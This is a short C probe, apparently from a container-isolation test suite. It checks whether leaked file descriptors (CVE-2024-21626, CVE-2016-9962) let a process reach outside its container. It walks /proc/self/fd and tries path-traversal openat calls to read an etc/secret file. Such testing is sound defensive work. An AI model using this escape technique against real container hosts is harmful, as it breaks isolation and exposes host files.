/* Looks for a descriptor that leads out: files, directories, sockets that the runtime left open (CVE-2024-21626, CVE-2016-9962). */
#include "common/attack.h"

static void attempt(void) {
    for (int fd = 0; fd < 1024; fd++) {
        char link[64], target[256];
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t len = readlink(link, target, sizeof target - 1);
        if (len < 0) {
            continue;
        }
        target[len] = 0;
        printf("%d -> %s\n", fd, target);
        static const char *ways[] = {"etc/secret", "../etc/secret", "../../../../../../etc/secret", "1/root/etc/secret"};
        for (unsigned i = 0; i < 4; i++) {
            int file = openat(fd, ways[i], O_RDONLY | O_CLOEXEC);
            if (file >= 0) {
                show_fd(ways[i], file);
                close(file);
            }
        }
    }
    show_below("/proc/self/fdinfo", 0);
}
